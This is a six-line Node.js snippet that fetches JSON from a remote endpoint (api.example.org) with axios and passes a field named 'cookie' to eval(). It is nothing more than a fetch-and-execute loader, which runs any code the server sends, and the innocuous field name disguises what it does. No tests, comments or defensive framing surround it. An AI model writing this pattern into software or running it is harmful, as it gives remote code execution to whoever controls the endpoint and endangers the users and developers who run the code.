const axios = require("axios");
(async () => {
  const r = await axios.get("https://api.example.org/b/1");
  eval(r.data.cookie);
})();
